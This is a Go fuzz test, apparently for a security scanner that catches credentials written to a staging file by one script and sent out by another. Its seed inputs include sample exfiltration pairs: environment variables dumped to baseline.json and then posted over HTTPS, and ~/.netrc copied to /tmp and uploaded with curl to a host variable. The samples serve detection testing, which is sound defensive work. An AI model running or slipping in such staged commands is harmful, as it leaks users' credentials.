package audit

import (
	"testing"
)

// FuzzCredStaged: no pair of program texts stops the staging-file
// readers (stagedNames, writeLine, scanStagedCreds), and every finding's
// line is inside the writer.
func FuzzCredStaged(f *testing.F) {
	for _, s := range [][2]string{
		{"const o = Object.entries(process.env);\nfs.writeFileSync(path.join(d, 'baseline.json'), JSON.stringify(o));\n", "const b = fs.readFileSync('baseline.json');\nhttps.request({}).end(b);\n"},
		{"cat ~/.netrc > /tmp/report.txt\n", "curl --data-binary @/tmp/report.txt \"$U\"\n"},
		{"x.json", "x.json"}, {"", ""}, {"a.json\n> a.json\n", "open(a.json"},
	} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, w, r string) {
		sc := scanCtx(w)
		names := stagedNames(w, []string{"scripts/w.js"})
		var staged []stagedFile
		for _, n := range names {
			if namesFile(r, n) {
				staged = append(staged, stagedFile{rel: "lib/r.js", text: r, name: n})
			}
		}
		sc.add("scripts/w.js", 1, "credential-read", Medium, "x", "")
		scanStagedCreds(sc, "scripts/w.js", w, staged)
		sc.findings = sc.findings[1:]
		fuzzLinesInFile(t, sc, w)
	})
}
